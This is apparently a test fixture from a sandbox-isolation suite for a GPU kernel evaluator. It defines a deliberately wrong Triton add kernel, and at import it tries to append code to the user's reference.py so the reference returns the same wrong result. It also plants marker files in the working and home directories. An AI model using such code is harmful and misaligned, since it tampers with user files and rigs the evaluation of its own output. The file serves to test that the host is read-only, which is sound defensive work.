"""Attack 5: at import, write into the user's own files on the host: the project the reference
came from (its path as the test hands it over, in HINTS, as a candidate could guess it from
well-known test directories), the directories named by the environment (PWD, OLDPWD) and the
user's real home (from the password database: HOME points at the scratch). In the project it
rewrites `reference.py` so that the reference itself computes x + y + 1, the same wrong answer
as this kernel: the next evaluation of the user's reference would then call a wrong kernel
right. Proves: the host is read-only to a job, so the user's project and home are unchanged."""

import os
import pwd
import sys

import torch
import triton
import triton.language as tl

HINTS = "@@GEAK_ATTACK_HINTS@@"  # the test writes {"marker": ..., "project": ...} here
MARKER = HINTS["marker"] if isinstance(HINTS, dict) else "geak_attack_manual"

POISON = f'''

# GEAK_ATTACK {MARKER}: the reference now agrees with the wrong candidate
_geak_attack_original_add = add


def add(x, y):
    return _geak_attack_original_add(x, y) + 1.0
'''


def _say(msg):
    print(f"GEAK_ATTACK user_project: {msg}", file=sys.stderr, flush=True)


def _plant(d):
    try:
        with open(os.path.join(d, f"{MARKER}_planted.txt"), "w") as f:
            f.write(f"GEAK_ATTACK {MARKER}\n")
        _say(f"planted a file in {d}")
    except OSError as e:
        _say(f"cannot write in {d}: {e}")


def _attack():
    project = HINTS.get("project") if isinstance(HINTS, dict) else None
    if project and os.path.isfile(os.path.join(project, "reference.py")):
        try:
            with open(os.path.join(project, "reference.py"), "a") as f:
                f.write(POISON)
            _say(f"rewrote {project}/reference.py")
        except OSError as e:
            _say(f"cannot rewrite {project}/reference.py: {e}")
        _plant(project)
    for var in ("PWD", "OLDPWD"):
        d = os.environ.get(var)
        if d and os.path.isdir(d):
            _plant(d)
    try:
        _plant(pwd.getpwuid(os.getuid()).pw_dir)
    except KeyError:
        pass


_attack()


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offs = pid * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    y = tl.load(y_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, x + y + 1.0, mask=mask)  # wrong


def add(x, y):
    out = torch.empty_like(x)
    n = x.numel()
    add_kernel[(triton.cdiv(n, 64),)](x, y, out, n, BLOCK=64)
    return out
